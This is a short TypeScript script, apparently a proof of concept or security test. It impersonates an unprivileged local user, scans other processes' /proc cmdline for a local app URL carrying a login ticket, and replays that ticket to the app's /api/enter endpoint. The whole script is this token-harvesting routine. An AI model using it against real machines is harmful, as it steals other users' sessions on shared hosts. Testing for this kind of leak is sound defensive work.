// Another account of the machine: reads the arguments of every process for an address of the app with this port, and tries
// to be let in with what it finds. Prints the arguments that name the address, then the status that it was answered.
import { readdirSync, readFileSync } from 'node:fs';

const [port] = process.argv.slice(2);
process.setgid!(65534);
process.setuid!(65534);

for (const id of readdirSync('/proc').filter((name) => /^\d+$/.test(name) && name !== String(process.pid))) {
  const found = argumentsOf(id).find((argument) => argument.includes(`127.0.0.1:${port}/#`));
  if (!found) continue;
  console.log(found);
  const ticket = found.split('=').at(-1)!;
  const answer = await fetch(`http://127.0.0.1:${port}/api/enter`, { method: 'POST', body: ticket });
  console.log(answer.status);
  break;
}

function argumentsOf(id: string): string[] {
  try {
    return readFileSync(`/proc/${id}/cmdline`, 'utf8').split('\0');
  } catch {
    return [];
  }
}
